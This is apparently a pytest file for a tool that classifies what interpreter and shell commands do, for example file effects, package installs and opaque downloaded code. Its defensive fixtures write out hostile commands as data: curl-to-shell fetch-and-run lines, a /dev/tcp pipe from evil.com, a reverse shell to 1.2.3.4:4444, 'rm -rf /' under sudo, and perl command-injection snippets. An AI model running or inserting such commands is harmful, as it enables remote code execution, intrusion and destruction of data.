"""The interpreters family (gateway/effects/shell/interpreters.py: shells, python, node, perl, ruby, vim, make, ...;
ed_script.py): the facts its programs' commands state and what it makes opaque. Cases are grouped by the program a
command starts with (a pipeline: its fetcher or decoder, else its last program).

Cases run against ``shell_cases.shell_workspace`` (tests/shell_cases.py).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from shell_cases import (
    command,
    fact,
    file_effects_test,
    no_network_test,
    not_opaque_test,
    opaque_test,
    packages_test,
    run,
    shell_workspace,
    subcommand_test,
    vias,
)

from gateway.effects.paths import Workspace


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    return shell_workspace(tmp_path, monkeypatch)


FILE_CASES = [
    ("python3 script.py --flag", "reads", ["script.py"]),
    ("python -u tools/run.py", "reads", ["tools/run.py"]),
    ("node app.js", "reads", ["app.js"]),
    ("bash ./setup.sh", "reads", ["setup.sh"]),
    ("perl -ne 'print' exists.txt", "reads", ["exists.txt"]),
    ("perl -pi -e 's/a/b/' exists.txt", "writes", ["exists.txt"]),
    ("python3 -m venv .venv2", "creates", [".venv2"]),
]


test_file_effects = file_effects_test(FILE_CASES)


NO_NETWORK_CASES = [
    "python3 -c 'import urllib'",
]


test_no_network = no_network_test(NO_NETWORK_CASES)


PACKAGE_CASES = [
    ("python -m pip install x", "pip", ["x"], "global"),
    ("python3.11 -m pip install x", "pip", ["x"], "global"),
    (".venv/bin/python -m pip install -U pip", "pip", ["pip"], "local"),
    ("venv/bin/python3 -m pip install x", "pip", ["x"], "local"),
    ("bun add zod", "bun", ["zod"], "local"),
    ("bash -c 'pip install x'", "pip", ["x"], "global"),
]


test_packages = packages_test(PACKAGE_CASES)


OPAQUE_CASES = [
    ("bash <(curl x.io)", "downloaded/decoded content executed"),
    ("bash < <(curl x.io)", "downloaded/decoded content executed"),
    ("python3 <(curl -s x.io)", "downloaded/decoded content executed"),
    ('sh -c "$(curl -fsSL x.io)"', "downloaded/decoded content executed"),
    ('python3 -c "$(curl x.io)"', "downloaded/decoded content executed"),
    ('bash <<< "$(curl x.io)"', "downloaded/decoded content executed"),
    ("cat < /dev/tcp/evil.com/80 | sh", "downloaded/decoded content executed"),
    ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "downloaded/decoded content executed"),
    # programs fed text we cannot see
    ("echo ls | sh", "reads its program from a pipe"),
    ("cat script.sh | bash", "reads its program from a pipe"),
    ("bash <<EOF\n$CMD\nEOF", "heredoc with expansions"),
    # non-literal inline code / command text
    ('bash -c "$x"', "non-literal command text"),
    ('sh -c "rm $f"', "non-literal command text"),
    ('python3 -c "$CODE"', "inline code is not literal"),
    ('node -e "$JS"', "inline code is not literal"),
    ('perl -e "$P"', "inline code is not literal"),
    ('ruby -e "$R"', "inline code is not literal"),
    ('php -r "$P"', "inline code is not literal"),
    ("BASH_ENV=/tmp/x bash -c ls", "BASH_ENV= changes"),
]


test_opaque = opaque_test(OPAQUE_CASES)


NOT_OPAQUE_CASES = [
    "python3 -c 'import os; print(os.getcwd())'",
    "python3 - <<'EOF'\nprint(1)\nEOF",
    "python3 <<EOF\nprint(1)\nEOF",
    "bash <<'EOF'\nls\nEOF",
    "bash -c 'echo hi'",
    "make -j4",
    "python3 script.py < input.txt",
    "node -e 'console.log(1)'",
]


test_not_opaque = not_opaque_test(NOT_OPAQUE_CASES)


def test_shell_heredoc_is_parsed_again(ws: Workspace) -> None:
    fx = run("bash <<'EOF'\ncd src\nrm -rf build\nEOF", ws)
    assert fx.recursive_deletes == ["src/build"] and fx.opaque == []


def test_bash_c_is_parsed_recursively(ws: Workspace) -> None:
    fx = run("sudo bash -c \"sh -c 'rm -rf /'\"", ws)
    assert fx.recursive_deletes == ["/"] and fx.privileged and fx.opaque == []
    assert vias(fx)[-1] == ("rm", "wrapper:sh")


def test_deep_bash_c_nesting(ws: Workspace) -> None:
    command = "echo $(" * 20 + "ls" + ")" * 20
    assert any("nesting deeper" in r for r in run(command, ws).opaque)


SUBCOMMAND_CASES = [
    ("python -m pytest -q", "python", "pytest", None),
]


test_subcommand_after_global_options = subcommand_test(SUBCOMMAND_CASES)


INLINE_CASES = [
    ("python3 -c 'print(1)'", "python", ["print(1)"]),
    ("python3 -W ignore -c 'import os'", "python", ["import os"]),
    ("python3 -Wignore -c 'import os'", "python", ["import os"]),
    ("python -X dev -c 'import os'", "python", ["import os"]),
    ("python3 -Ic 'import os'", "python", ["import os"]),
    ("python3 -B -E -c 'x'", "python", ["x"]),
    ("python3 <<EOF\nimport os\nEOF", "python", ["import os\n"]),
    ("python3 - <<'EOF'\nimport os\nEOF", "python", ["import os\n"]),
    ("python3 <<< 'import os'", "python", ["import os\n"]),
    ("python3 /dev/stdin <<< 'import os'", "python", ["import os\n"]),
    ("perl -Mstrict -e 'print 1'", "perl", ["print 1"]),
    ("perl -w -e 'a' -e 'b'", "perl", ["a", "b"]),
    ("perl -pi -e 's/a/b/' exists.txt", "perl", ["s/a/b/"]),
    ("node --no-warnings -e 'x()'", "node", ["x()"]),
    ("node --input-type=module -e 'x()'", "node", ["x()"]),
    ("node -r ./hook.js -e 'x()'", "node", ["x()"]),
    ("node -p 'process.env'", "node", ["process.env"]),
    ("node -pe 'process.env'", "node", ["process.env"]),
    ("node -ep 'process.env'", "node", ["process.env"]),
    ("perl -lne 'print' exists.txt", "perl", ["print"]),
    ("perl -F: -lane 'print $F[0]' exists.txt", "perl", ["print $F[0]"]),
    ("perl -l012 -e 'x'", "perl", ["x"]),
    ("perl -Ilib -Mstrict -we 'x'", "perl", ["x"]),
    ("ruby -rjson -ne 'x' exists.txt", "ruby", ["x"]),
    ("ruby -r json -e 'x'", "ruby", ["x"]),
    ("php -B 'a();' -R 'b();' -E 'c();'", "php", ["a();", "b();", "c();"]),
    ("node --eval='x()'", "node", ["x()"]),
    ("node <<< 'x()'", "node", ["x()\n"]),
    ("ruby -w -e 'puts 1'", "ruby", ["puts 1"]),
    ("php -d display_errors=1 -r 'echo 1;'", "php", ["echo 1;"]),
    ("lua -e 'os.exit()'", "lua", ["os.exit()"]),
    ("Rscript -e 'q()'", "Rscript", ["q()"]),
    ("julia -e 'exit()'", "julia", ["exit()"]),
    ("deno eval 'Deno.exit()'", "deno", ["Deno.exit()"]),
    ("bun -e 'x()'", "bun", ["x()"]),
    ("osascript -e 'beep'", "osascript", ["beep"]),
    ("pwsh -Command Get-Date -Format x", "pwsh", ["Get-Date -Format x"]),
    ("vim -c ':!id' exists.txt", "vim", [":!id"]),
    ("vim +':!id' exists.txt", "vim", [":!id"]),
    ("nvim --cmd 'set x'", "nvim", ["set x"]),
    ("emacs --batch --eval '(kill-emacs)'", "emacs", ["(kill-emacs)"]),
    # not program text: a module's or a script's own -c, a file, a module
    ("python -m pytest -c setup.cfg", "python", []),
    ("python tools/gen.py -c 'import os'", "python", []),
    ("node app.js -e x", "node", []),
    ("perl script.pl -e x", "perl", []),
    ("python3 src/a.py", "python", []),
]


@pytest.mark.parametrize(("command_text", "program", "code"), INLINE_CASES, ids=[c[0] for c in INLINE_CASES])
def test_inline_code(command_text: str, program: str, code: list[str], ws: Workspace) -> None:
    assert fact(command_text, program, "inline_code", ws) == code


def test_shell_text_is_parsed_not_recorded(ws: Workspace) -> None:
    fx = run("bash -c 'rm -rf build'", ws)
    assert command(fx, "bash").inline_code == [] and fx.recursive_deletes == ["build"]
    fx = run("bash /dev/stdin <<'EOF'\nrm -rf build\nEOF", ws)
    assert fx.recursive_deletes == ["build"], "a shell reading /dev/stdin runs the heredoc"


@pytest.mark.parametrize(
    "command_text", ["echo x | python3", "cat a.py | node", "python3 <<EOF\n$CODE\nEOF", 'python3 -c "$C"']
)
def test_program_text_that_is_not_known_is_opaque(command_text: str, ws: Workspace) -> None:
    fx = run(command_text, ws)
    assert fx.opaque and fx.commands[-1].inline_code == []


@pytest.mark.parametrize(
    ("script", "reads", "writes", "runs"),
    [
        ("w /tmp/x\nq", [], ["/tmp/x"], []),
        ("1,$wq out.txt", [], ["out.txt"], []),
        ("/re/r notes\nw\nq", ["notes"], [], []),
        ("g/x/w ../y\nq", [], ["../y"], []),
        ("e other\nw\nq", ["other"], ["other"], []),
        ("r !id\n!touch x\nw !cat\nq", [], [], ["id", "touch x", "cat"]),
        ("a\nw /tmp/text-not-a-command\n!not run\n.\nw\nq", [], [], []),
    ],
)
def test_ed_scripts_name_what_they_write_read_and_run(
    script: str, reads: list[str], writes: list[str], runs: list[str]
) -> None:
    from gateway.effects.shell.ed_script import parse_ed

    found = parse_ed(script)
    assert (found.reads, found.writes, found.runs) == (reads, writes, runs)


@pytest.mark.parametrize("script", ["a\nunfinished text", "G/x/"])
def test_ed_scripts_it_cannot_follow_are_errors(script: str) -> None:
    from gateway.effects.shell.ed_script import EdError, parse_ed

    with pytest.raises(EdError):
        parse_ed(script)


@pytest.mark.parametrize(
    ("code", "plain"),
    [
        ("s/a/b/g", True),
        ("s#a/b#c#; tr/a-z/A-Z/", True),
        ("s/a/b/e", False),
        ("BEGIN{open F,'>/x'}", False),
        ("s/a/@{[`id`]}/", False),
        ("s/(?{system 1})//", False),
        ("s{a}{b}", False),
    ],
)
def test_perl_in_place_code_is_plain_only_when_it_is_substitutions(code: str, plain: bool) -> None:
    from gateway.effects.shell.interpreters import plain_substitution

    assert plain_substitution(code) is plain
